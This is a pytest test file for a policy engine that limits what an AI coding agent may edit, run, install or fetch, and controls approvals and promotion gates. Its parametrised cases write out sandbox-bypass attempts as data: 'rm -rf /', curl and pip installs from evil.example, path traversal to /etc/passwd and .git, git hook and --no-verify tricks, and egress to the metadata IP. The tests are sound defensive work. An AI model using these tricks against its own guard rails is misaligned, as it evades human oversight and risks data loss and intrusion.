"""The real policy bundle (``rego/`` + ``policies/``) through the embedded engine.

Each decision is driven with realistic inputs, including the bypass attempts a
clever agent would try. Tests assert the decision and the ``(rule_id, code)``
of every reason, never message text.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Mapping
from typing import Any

import pytest

from pearl_core import Decision, RegorusEngine, default_rego_dir, load_bundle
from pearl_core.settings import default_policies_dir

GUARD = "pearl.guardrails.decision"
REMEDIATION = "pearl.remediation.decision"
GATE = "pearl.gate.decision"
CONTEXT = "pearl.context.decision"
ENTRYPOINTS = (CONTEXT, GATE, GUARD, REMEDIATION)

Outcome = tuple[str, frozenset[tuple[str, str]]]


@pytest.fixture(scope="module")
def policy() -> RegorusEngine:
    bundle = load_bundle(default_rego_dir(), default_policies_dir())
    return RegorusEngine(bundle, require=ENTRYPOINTS)


def outcome(decision: Decision) -> Outcome:
    """The decision and the (rule_id, code) of each reason: what a caller acts on."""
    return decision.decision, frozenset(
        (reason.rule_id, str(reason.details.get("code"))) for reason in decision.reasons
    )


def merged(base: Mapping[str, Any], changes: Mapping[str, Any]) -> dict[str, Any]:
    """``base`` with ``changes`` merged in: objects merge, anything else replaces."""
    result = copy.deepcopy(dict(base))
    for key, value in changes.items():
        if isinstance(value, Mapping) and isinstance(result.get(key), Mapping):
            result[key] = merged(result[key], value)
        else:
            result[key] = copy.deepcopy(value)
    return result


# --- guard rails -----------------------------------------------------------------


def dev_profile() -> dict[str, Any]:
    """The seed dev profile as PeaRL passes it, plus egress and pushes for this project."""
    profile = json.loads((default_policies_dir() / "environments" / "dev.json").read_text())
    return {
        "allowed_capabilities": [*profile["allowed_capabilities"], "network_egress", "git_push"],
        "blocked_capabilities": profile["blocked_capabilities"],
        "approval_required_for": [],
        "outbound_allowlist": [],
    }


def guard_input(action: Mapping[str, Any], **changes: Any) -> dict[str, Any]:
    base = {
        "now": "2025-06-01T12:00:00Z",
        "environment": "dev",
        "principal": {"subject_id": "sa_fixer", "kind": "service_account"},
        "profile": dev_profile(),
        "packet": {
            "task_packet_id": "tp_orders_rounding",
            "status": "claimed",
            "lease": {"holder_id": "sa_fixer", "expires_at": "2025-06-01T12:30:00Z"},
            "expires_at": "2025-06-02T00:00:00Z",
            "denied_attempts": 1,
            "allowed_actions": [
                "code_edit",
                "test_run",
                "command_run",
                "dependency_change",
                "network_request",
                "git_push",
            ],
            "blocked_actions": [],
            "allowed_paths": ["src/orders/**", "tests/orders/**", "requirements.txt"],
            "allowed_commands": [
                "pytest",
                "ruff check",
                "git status",
                "git diff",
                "git add",
                "git commit",
                "git push",
                "pip install",
            ],
            "allowed_packages": ["decimal-utils"],
            "approval_triggers": [],
        },
        "action": action,
        "approvals": [],
    }
    return merged(base, changes)


def edit(*paths: str) -> dict[str, Any]:
    return guard_input({"type": "code_edit", "digest": "sha256:e1", "paths": list(paths)})


def run(*commands: list[str], shell_features: list[dict[str, str]] | None = None) -> dict[str, Any]:
    action: dict[str, Any] = {"type": "command_run", "commands": list(commands)}
    if shell_features is not None:
        action["shell_features"] = shell_features
    return guard_input(action)


def fetch(*hosts: str) -> dict[str, Any]:
    return guard_input({"type": "network_request", "hosts": list(hosts)})


ALLOW: Outcome = ("allow", frozenset())
ACTION = "guardrails.rules.action_type_allowed"
PACKET = "guardrails.rules.packet_state"
SCOPE = "guardrails.rules.path_in_scope"
PROTECTED = "guardrails.rules.protected_paths"
COMMAND = "guardrails.rules.command_allowed"
EGRESS = "guardrails.rules.network_egress"
APPROVAL = "guardrails.rules.approval_triggers"


def deny(*reasons: tuple[str, str]) -> Outcome:
    return "deny", frozenset(reasons)


def test_bundle_serves_the_four_decisions(policy: RegorusEngine) -> None:
    assert policy.entrypoints == ENTRYPOINTS
    assert {rule.split(".")[0] for rule in policy.bundle.rules} == {
        "context",
        "gate",
        "guardrails",
        "remediation",
    }


def test_in_scope_edit_is_allowed(policy: RegorusEngine) -> None:
    decision = policy.evaluate(
        GUARD, edit("src/orders/rounding.py", "tests/orders/test_rounding.py")
    )
    assert outcome(decision) == ALLOW
    assert decision.result["approval_triggers"] == []


def test_allow_listed_command_line_is_allowed(policy: RegorusEngine) -> None:
    line = run(
        ["pytest", "-q", "tests/orders"],
        ["ruff", "check", "src/orders"],
        shell_features=[{"kind": "and_or"}, {"kind": "redirect", "target": "/dev/null"}],
    )
    assert outcome(policy.evaluate(GUARD, line)) == ALLOW


@pytest.mark.parametrize(
    ("paths", "expected"),
    [
        pytest.param(["src/orders/../../etc/passwd"], deny((SCOPE, "unsafe_path")), id="dotdot"),
        pytest.param(["/etc/passwd"], deny((SCOPE, "unsafe_path")), id="absolute"),
        pytest.param(["src\\orders\\..\\..\\x"], deny((SCOPE, "unsafe_path")), id="backslash"),
        pytest.param(["~/.bashrc"], deny((SCOPE, "unsafe_path")), id="home"),
        pytest.param(["src/orders/a.py\x00.txt"], deny((SCOPE, "unsafe_path")), id="nul"),
        pytest.param(["src/orders/GIT~1/config"], deny((SCOPE, "unsafe_path")), id="short-name"),
        pytest.param(["src/billing/charge.py"], deny((SCOPE, "outside_allowed_paths")), id="out"),
        pytest.param(
            ["src/orders/../../.git/config"],
            deny((SCOPE, "unsafe_path"), (PROTECTED, "protected_path")),
            id="dotdot-into-git",
        ),
        pytest.param(
            ["src/orders/.GIT/config"], deny((PROTECTED, "protected_path")), id="case-git"
        ),
        pytest.param(
            ["src/orders/.git./config"], deny((SCOPE, "unsafe_path")), id="windows-trailing-dot"
        ),
        pytest.param(
            ["src/orders/settings_link.py", ".github/workflows/release.yml"],
            deny((SCOPE, "outside_allowed_paths"), (PROTECTED, "protected_path")),
            id="symlink-and-its-target",
        ),
        pytest.param(["src/orders/.env"], deny((PROTECTED, "protected_path")), id="dotenv"),
        pytest.param(
            ["src/orders/certs/Server.PEM"], deny((PROTECTED, "protected_path")), id="pem"
        ),
        pytest.param(
            ["src/orders/.pearl/ctx.json"], deny((PROTECTED, "protected_path")), id="pearl"
        ),
        pytest.param([], deny((ACTION, "field_required")), id="no-paths"),
    ],
)
def test_path_bypass_attempts_are_denied(
    policy: RegorusEngine, paths: list[str], expected: Outcome
) -> None:
    assert outcome(policy.evaluate(GUARD, edit(*paths))) == expected


@pytest.mark.parametrize(
    ("commands", "expected"),
    [
        pytest.param(
            [["git", "status"], ["rm", "-rf", "/"]],
            deny((COMMAND, "command_not_allowed"), (COMMAND, "command_not_in_packet")),
            id="chained-rm-split-by-python",
        ),
        pytest.param(
            [["git", "status;", "rm", "-rf", "/"]],
            deny((COMMAND, "command_not_allowed"), (COMMAND, "command_not_in_packet")),
            id="quoted-chain-is-one-odd-argument",
        ),
        pytest.param(
            [["git", "commit", "--no-verify", "-m", "x"]],
            deny((COMMAND, "command_not_allowed")),
            id="no-verify",
        ),
        pytest.param(
            [["git", "commit", "-anm", "x"]],
            deny((COMMAND, "command_not_allowed")),
            id="no-verify-in-a-cluster",
        ),
        pytest.param(
            [["git", "diff", "--output=.git/hooks/pre-commit"]],
            deny((COMMAND, "command_not_allowed")),
            id="diff-writes-a-hook",
        ),
        pytest.param(
            [["git", "-c", "core.hooksPath=/tmp/h", "status"]],
            deny((COMMAND, "command_not_allowed"), (COMMAND, "command_not_in_packet")),
            id="git-config-override",
        ),
        pytest.param(
            [["/usr/bin/git", "status"]],
            deny((COMMAND, "command_not_allowed"), (COMMAND, "command_not_in_packet")),
            id="program-by-path",
        ),
        pytest.param(
            [["curl", "https://evil.example/x"]],
            deny((COMMAND, "command_not_allowed"), (COMMAND, "command_not_in_packet")),
            id="curl-from-command-run",
        ),
        pytest.param([], deny((ACTION, "field_required")), id="no-commands"),
    ],
)
def test_command_bypass_attempts_are_denied(
    policy: RegorusEngine, commands: list[list[str]], expected: Outcome
) -> None:
    assert outcome(policy.evaluate(GUARD, run(*commands))) == expected


@pytest.mark.parametrize(
    ("features", "expected"),
    [
        pytest.param(
            [{"kind": "command_substitution"}],
            deny((COMMAND, "shell_feature_not_allowed")),
            id="substitution",
        ),
        pytest.param(
            [{"kind": "background"}], deny((COMMAND, "shell_feature_not_allowed")), id="background"
        ),
        pytest.param(
            [{"kind": "redirect", "target": ".git/hooks/post-checkout"}],
            deny(
                (COMMAND, "redirect_to_protected_path"), (COMMAND, "redirect_outside_allowed_paths")
            ),
            id="redirect-into-git",
        ),
        pytest.param(
            [{"kind": "redirect", "target": "/etc/cron.d/job"}],
            deny((COMMAND, "redirect_outside_allowed_paths")),
            id="redirect-outside",
        ),
    ],
)
def test_shell_feature_bypass_attempts_are_denied(
    policy: RegorusEngine, features: list[dict[str, str]], expected: Outcome
) -> None:
    line = run(["git", "status"], shell_features=features)
    assert outcome(policy.evaluate(GUARD, line)) == expected


def test_pip_installs_only_the_packets_packages(policy: RegorusEngine) -> None:
    def install(*argv: str) -> Outcome:
        action = {"type": "dependency_change", "commands": [["pip", "install", *argv]]}
        return outcome(policy.evaluate(GUARD, guard_input(action)))

    assert install("decimal_utils==1.4.2") == ALLOW
    assert install("requests") == deny((COMMAND, "command_not_allowed"))
    assert install("-r", "requirements.txt") == deny((COMMAND, "command_not_allowed"))
    assert install("git+https://evil.example/x.git") == deny((COMMAND, "command_not_allowed"))
    assert install("--index-url", "https://evil.example", "decimal-utils") == deny(
        (COMMAND, "command_not_allowed")
    )


@pytest.mark.parametrize(
    ("hosts", "expected"),
    [
        pytest.param(["pypi.org", "files.pythonhosted.org"], ALLOW, id="registry"),
        pytest.param(["docs.python.org"], ALLOW, id="dev-only-host"),
        pytest.param(["evil.example"], deny((EGRESS, "host_not_allowed")), id="curl-elsewhere"),
        pytest.param(
            ["pypi.org.evil.example"], deny((EGRESS, "host_not_allowed")), id="suffix-trick"
        ),
        pytest.param(["evil@pypi.org"], deny((EGRESS, "host_rejected")), id="userinfo-left-in"),
        pytest.param(["%70ypi.org"], deny((EGRESS, "host_rejected")), id="percent-encoded"),
        pytest.param(["169.254.169.254"], deny((EGRESS, "host_rejected")), id="metadata-ip"),
        pytest.param(["0x7f000001"], deny((EGRESS, "host_rejected")), id="hex-ip"),
        pytest.param(["[::1]"], deny((EGRESS, "host_rejected")), id="ipv6"),
        pytest.param(["xn--pypi-xxa.org"], deny((EGRESS, "host_not_allowed")), id="idna-lookalike"),
    ],
)
def test_egress_is_limited_to_the_allow_list(
    policy: RegorusEngine, hosts: list[str], expected: Outcome
) -> None:
    assert outcome(policy.evaluate(GUARD, fetch(*hosts))) == expected


def test_userinfo_url_parsed_by_python_names_the_real_host(policy: RegorusEngine) -> None:
    # http://pypi.org@evil.example/ : Python's URL parser yields host evil.example.
    assert outcome(policy.evaluate(GUARD, fetch("evil.example"))) == deny(
        (EGRESS, "host_not_allowed")
    )


def test_egress_allow_list_depends_on_the_environment(policy: RegorusEngine) -> None:
    in_prod = guard_input(
        {"type": "network_request", "hosts": ["docs.python.org"]}, environment="prod"
    )
    assert outcome(policy.evaluate(GUARD, in_prod)) == deny((EGRESS, "host_not_allowed"))


@pytest.mark.parametrize(
    ("action", "expected"),
    [
        pytest.param({"type": "format_disk"}, deny((ACTION, "unknown_action_type")), id="unknown"),
        pytest.param({}, deny((ACTION, "missing_action_type")), id="untyped"),
        pytest.param(
            {"type": "config_edit_nonprod", "paths": ["src/orders/settings.yaml"]},
            deny((ACTION, "not_allowed_by_packet")),
            id="not-in-packet",
        ),
        pytest.param(
            {"type": "deploy"},
            deny((ACTION, "not_allowed_by_packet"), (ACTION, "not_allowed_by_environment")),
            id="in-no-list",
        ),
    ],
)
def test_actions_nobody_allowed_are_denied_by_default(
    policy: RegorusEngine, action: dict[str, Any], expected: Outcome
) -> None:
    assert outcome(policy.evaluate(GUARD, guard_input(action))) == expected


def test_profile_blocks_win_over_the_packet(policy: RegorusEngine) -> None:
    prod_like = guard_input(
        {"type": "dependency_change", "paths": ["requirements.txt"]},
        profile={"blocked_capabilities": ["dependency_change"]},
    )
    assert outcome(policy.evaluate(GUARD, prod_like)) == deny((ACTION, "blocked"))


def test_acting_without_holding_the_lease_is_denied(policy: RegorusEngine) -> None:
    stolen = merged(edit("src/orders/a.py"), {"principal": {"subject_id": "sa_other"}})
    expired = merged(edit("src/orders/a.py"), {"now": "2025-06-01T12:30:00Z"})
    released = merged(edit("src/orders/a.py"), {"packet": {"status": "submitted"}})
    assert outcome(policy.evaluate(GUARD, stolen)) == deny((PACKET, "lease_held_by_another"))
    assert outcome(policy.evaluate(GUARD, expired)) == deny((PACKET, "lease_expired"))
    assert outcome(policy.evaluate(GUARD, released)) == deny((PACKET, "packet_not_claimed"))


def test_git_push_needs_an_approval_bound_to_the_action(policy: RegorusEngine) -> None:
    push = {"type": "git_push", "digest": "sha256:push-1", "commands": [["git", "push"]]}
    approval = {
        "approval_request_id": "appr_push_1",
        "status": "approved",
        "action_digest": "sha256:push-1",
        "consumed_at": None,
        "expires_at": "2025-06-01T18:00:00Z",
    }
    asked = policy.evaluate(GUARD, guard_input(push))
    assert outcome(asked) == ("needs_approval", frozenset({(APPROVAL, "action_type")}))
    assert asked.result["approval_triggers"] == ["git_push"]
    assert outcome(policy.evaluate(GUARD, guard_input(push, approvals=[approval]))) == ALLOW
    replayed = dict(approval, action_digest="sha256:another-push")
    assert outcome(policy.evaluate(GUARD, guard_input(push, approvals=[replayed])))[0] == (
        "needs_approval"
    )
    used = dict(approval, consumed_at="2025-06-01T11:00:00Z")
    assert outcome(policy.evaluate(GUARD, guard_input(push, approvals=[used])))[0] == (
        "needs_approval"
    )


def test_deny_wins_over_needs_approval(policy: RegorusEngine) -> None:
    force = guard_input({"type": "git_push", "commands": [["git", "push", "--force"]]})
    decision = policy.evaluate(GUARD, force)
    assert outcome(decision) == deny((COMMAND, "command_not_allowed"))
    assert decision.result["approval_triggers"] == ["git_push"]


def test_auth_paths_need_approval(policy: RegorusEngine) -> None:
    decision = policy.evaluate(GUARD, edit("src/orders/auth/session.py"))
    assert outcome(decision) == ("needs_approval", frozenset({(APPROVAL, "sensitive_path")}))


def test_dependency_change_needs_approval_in_preprod(policy: RegorusEngine) -> None:
    change = {"type": "dependency_change", "paths": ["requirements.txt"]}
    assert outcome(policy.evaluate(GUARD, guard_input(change))) == ALLOW
    preprod = guard_input(change, environment="preprod")
    assert outcome(policy.evaluate(GUARD, preprod)) == (
        "needs_approval",
        frozenset({(APPROVAL, "action_type")}),
    )


def test_reasons_carry_their_rule_metadata(policy: RegorusEngine) -> None:
    (reason,) = policy.evaluate(GUARD, edit("src/orders/.git/config")).reasons
    assert (reason.rule_id, reason.severity, reason.title) == (
        PROTECTED,
        "critical",
        "Protected paths",
    )
    assert reason.details == {
        "code": "protected_path",
        "path": "src/orders/.git/config",
        "matched": [".git"],
    }
    assert reason.hint


def test_guard_rails_fail_closed_on_an_empty_input(policy: RegorusEngine) -> None:
    decision = policy.evaluate(GUARD, {})
    assert decision.decision == "deny"
    assert {reason.rule_id for reason in decision.reasons} == {ACTION, PACKET}


# --- remediation eligibility -----------------------------------------------------


def candidate(**changes: Any) -> dict[str, Any]:
    base = {
        "environment": "dev",
        "autonomy_mode": "supervised_autonomous",
        "severity": "moderate",
        "category": "security",
        "tool_type": "sast",
        "exploitability": "low",
        "fix_available": True,
        "components_touched": ["orders-api"],
        "critical_components": ["payments"],
        "finding_ids": ["fnd_sql_injection_1"],
    }
    return {**base, **changes}


@pytest.mark.parametrize(
    ("changes", "decision", "rule_ids"),
    [
        pytest.param({}, "auto_allowed", set(), id="moderate-sast-in-dev"),
        pytest.param(
            {"environment": "preprod", "components_touched": ["payments"]},
            "auto_allowed_with_approval",
            {"remediation.rules.critical_components"},
            id="critical-component",
        ),
        pytest.param(
            {"environment": "prod", "severity": "high", "exploitability": "high"},
            "auto_allowed_with_approval",
            {"remediation.rules.severity_ceiling", "remediation.rules.exploitability"},
            id="high-in-prod",
        ),
        pytest.param(
            {"environment": "prod", "severity": "critical"},
            "human_required",
            {"remediation.rules.severity_ceiling"},
            id="critical-in-prod",
        ),
        pytest.param(
            {"tool_type": "secrets", "environment": "sandbox"},
            "human_required",
            {"remediation.rules.secrets"},
            id="leaked-secret",
        ),
        pytest.param(
            {"fix_available": False},
            "human_required",
            {"remediation.rules.fix_available"},
            id="no-fix",
        ),
        pytest.param(
            {"category": "responsible_ai"},
            "human_required",
            {"remediation.rules.category_requires_human"},
            id="rai",
        ),
        pytest.param(
            {"autonomy_mode": "read_only", "tool_type": "secrets"},
            "not_autonomous",
            {"remediation.rules.autonomy_mode", "remediation.rules.secrets"},
            id="read-only-wins",
        ),
        pytest.param(
            {"severity": "sev0"},
            "human_required",
            {"remediation.rules.candidate_complete", "remediation.rules.severity_ceiling"},
            id="untriaged",
        ),
    ],
)
def test_remediation_eligibility(
    policy: RegorusEngine, changes: dict[str, Any], decision: str, rule_ids: set[str]
) -> None:
    result = policy.evaluate(REMEDIATION, candidate(**changes))
    assert result.decision == decision
    assert {reason.rule_id for reason in result.reasons} == rule_ids
    assert result.result["approval_required"] is (decision == "auto_allowed_with_approval")


def test_remediation_lists_approval_triggers(policy: RegorusEngine) -> None:
    result = policy.evaluate(
        REMEDIATION, candidate(environment="preprod", severity="high", exploitability="medium")
    )
    assert result.result["approval_triggers"] == [
        "exploitable_finding",
        "severity_above_autonomous_ceiling",
    ]


# --- promotion gate --------------------------------------------------------------


def promotion(**changes: Any) -> dict[str, Any]:
    base = {
        "target_environment": "prod",
        "now": "2025-06-01T12:00:00Z",
        "open_counts": {"critical": 0, "high": 1, "moderate": 6, "low": 30},
        "blocking_findings": [{"finding_id": "fnd_tls_1", "severity": "high"}],
        "unverified_fixes": [],
        "exceptions": [
            {
                "exception_id": "exc_tls",
                "status": "active",
                "expires_at": "2025-08-01T00:00:00Z",
                "finding_ids": ["fnd_tls_1"],
            }
        ],
        "accepted_risks": [],
        "evidence": ["sast_scan", "sca_scan", "secrets_scan", "sbom", "security_review"],
    }
    return {**base, **changes}


def gate_rules(decision: Decision) -> set[str]:
    return {reason.rule_id for reason in decision.reasons}


def test_clean_promotion_passes(policy: RegorusEngine) -> None:
    decision = policy.evaluate(GATE, promotion())
    assert (decision.decision, decision.reasons) == ("pass", ())
    assert decision.result["target_environment"] == "prod"


def test_gate_fails_on_uncovered_or_unlisted_blocking_findings(policy: RegorusEngine) -> None:
    assert outcome(policy.evaluate(GATE, promotion(exceptions=[]))) == (
        "fail",
        frozenset({("gate.rules.open_findings", "open_finding")}),
    )
    hidden = promotion(open_counts={"critical": 1, "high": 1})
    assert outcome(policy.evaluate(GATE, hidden)) == (
        "fail",
        frozenset({("gate.rules.open_findings", "unlisted_open_findings")}),
    )


def test_gate_fails_on_expired_or_missing_exceptions(policy: RegorusEngine) -> None:
    expired = promotion(
        exceptions=[
            {
                "exception_id": "exc_tls",
                "status": "active",
                "expires_at": "2025-05-01T00:00:00Z",
                "finding_ids": ["fnd_tls_1"],
            }
        ]
    )
    assert gate_rules(policy.evaluate(GATE, expired)) == {
        "gate.rules.open_findings",
        "gate.rules.exceptions_valid",
    }
    missing = promotion(
        accepted_risks=[{"finding_id": "fnd_old", "severity": "high", "exception_id": None}]
    )
    assert outcome(policy.evaluate(GATE, missing)) == (
        "fail",
        frozenset({("gate.rules.exceptions_valid", "missing_exception")}),
    )


def test_gate_fails_on_unverified_fixes_and_missing_evidence(policy: RegorusEngine) -> None:
    decision = policy.evaluate(
        GATE,
        promotion(
            unverified_fixes=[{"finding_id": "fnd_xss", "severity": "high"}],
            evidence=["sast_scan", "sca_scan"],
        ),
    )
    assert decision.decision == "fail"
    assert gate_rules(decision) == {"gate.rules.unverified_fixes", "gate.rules.required_evidence"}
    assert {r.details["evidence"] for r in decision.reasons if "evidence" in r.details} == {
        "secrets_scan",
        "sbom",
        "security_review",
    }


def test_gate_threshold_depends_on_the_target(policy: RegorusEngine) -> None:
    to_dev = promotion(target_environment="dev", exceptions=[], evidence=[])
    assert outcome(policy.evaluate(GATE, to_dev)) == ("pass", frozenset())
    to_mars = promotion(target_environment="mars")
    assert outcome(policy.evaluate(GATE, to_mars)) == (
        "fail",
        frozenset({("gate.rules.target_environment", "unknown_environment")}),
    )


def test_gate_over_two_hundred_blocking_findings(policy: RegorusEngine) -> None:
    findings = [{"finding_id": f"fnd_{i}", "severity": "high"} for i in range(200)]
    waived = [f["finding_id"] for f in findings[:150]]
    exception = {
        "exception_id": "exc_bulk",
        "status": "active",
        "expires_at": "2025-07-01T00:00:00Z",
        "finding_ids": waived,
    }
    decision = policy.evaluate(
        GATE,
        promotion(
            open_counts={"high": 200},
            blocking_findings=findings,
            exceptions=[exception],
        ),
    )
    blocking = {r.details["finding_id"] for r in decision.reasons}
    assert decision.decision == "fail"
    assert blocking == {f"fnd_{i}" for i in range(150, 200)}


# --- compiled context ------------------------------------------------------------


def compiled(**package_changes: Any) -> dict[str, Any]:
    package = {
        "autonomy_policy": {
            "mode": "supervised_autonomous",
            "allowed_actions": ["code_edit", "test_run"],
            "blocked_actions": ["prod_deploy", "secret_access"],
            "approval_required_for": ["auth_flow_change"],
        },
        "network_requirements": {
            "outbound_allowlist": ["api.stripe.com"],
            "public_egress_forbidden": True,
        },
        "security_requirements": {
            "required_controls": ["input_validation"],
            "prohibited_patterns": ["eval"],
        },
    }
    layers = {
        "org_baseline": {
            "blocked_actions": ["secret_access"],
            "approval_required_for": ["auth_flow_change"],
            "public_egress_forbidden": True,
        },
        "app_spec": {
            "allowed_actions": ["code_edit", "test_run", "dependency_change"],
            "outbound_allowlist": ["api.stripe.com"],
            "prohibited_patterns": ["eval"],
        },
        "environment_profile": {
            "autonomy_mode": "supervised_autonomous",
            "allowed_actions": ["code_edit", "test_create", "test_run", "command_run"],
            "blocked_actions": ["prod_deploy"],
        },
    }
    return {"package": merged(package, package_changes), "layers": layers}


def test_faithful_compiled_context_is_valid(policy: RegorusEngine) -> None:
    assert outcome(policy.evaluate(CONTEXT, compiled())) == ("valid", frozenset())


def test_a_lower_layer_cannot_widen_permissions(policy: RegorusEngine) -> None:
    widened = compiled(
        autonomy_policy={
            "mode": "delegated_autonomous",
            "allowed_actions": ["code_edit", "dependency_change"],
            "blocked_actions": ["prod_deploy"],
        },
        network_requirements={"public_egress_forbidden": False},
    )
    assert outcome(policy.evaluate(CONTEXT, widened)) == (
        "invalid",
        frozenset(
            {
                ("context.rules.permissions_narrowed", "action_not_granted"),
                ("context.rules.permissions_narrowed", "autonomy_widened"),
                ("context.rules.prohibitions_kept", "blocked_action_dropped"),
                ("context.rules.prohibitions_kept", "public_egress_allowed"),
            }
        ),
    )


@pytest.mark.parametrize("entrypoint", ENTRYPOINTS)
def test_every_decision_fails_closed_on_an_empty_input(
    policy: RegorusEngine, entrypoint: str
) -> None:
    decision = policy.evaluate(entrypoint, {})
    assert decision.decision in {"deny", "human_required", "fail", "invalid"}
    assert decision.reasons
